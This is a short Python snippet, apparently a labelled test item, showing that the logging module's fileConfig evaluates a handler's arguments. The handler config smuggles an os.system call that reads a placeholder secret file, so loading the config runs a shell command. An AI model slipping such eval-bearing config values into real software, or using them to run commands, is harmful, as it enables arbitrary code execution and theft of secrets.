# logging's listener of configurations evaluates text: its own eval in a handler's arguments.
# effect: run
import configparser
import logging.config
parser = configparser.RawConfigParser()
parser.read_string("""
[loggers]
keys=root
[handlers]
keys=h
[formatters]
keys=
[logger_root]
handlers=h
[handler_h]
class=StreamHandler
args=(__import__("os").system("cat @SECRET@"),)
""")
try:
    logging.config.fileConfig(parser)
except AttributeError:
    pass
